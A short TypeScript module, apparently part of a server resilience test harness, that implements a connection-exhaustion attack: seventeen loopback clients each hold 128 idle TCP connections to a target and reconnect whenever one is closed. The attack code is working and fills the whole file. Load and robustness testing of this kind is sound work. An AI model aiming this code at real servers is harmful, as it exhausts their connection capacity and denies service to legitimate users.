import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, addressesOf } from '../attack.ts';

const CLIENTS = 17;
const EACH = 128;

/** Seventeen clients hold as many idle connections as they may, and reconnect when one is closed. */
export const attack: Attack = async ({ address }, signal) => {
  const { hostname: host, port } = new URL(address);
  const holdOne = async (from: string) => {
    while (!signal.aborted) {
      const socket = connect({ host, port: Number(port), localAddress: from });
      // Without reading, the socket would not notice that it was closed.
      socket.resume().on('error', () => socket.destroy());
      const closed = once(socket, 'close');
      const onEnd = () => socket.destroy();
      signal.addEventListener('abort', onEnd, { once: true });
      if (signal.aborted) onEnd();
      await closed;
      signal.removeEventListener('abort', onEnd);
      await wait(100 + Math.random() * 400, undefined, { signal }).catch(() => undefined);
    }
  };
  await Promise.all(
    addressesOf('127.15.0', CLIENTS).flatMap((from) => Array.from({ length: EACH }, () => holdOne(from))),
  );
};
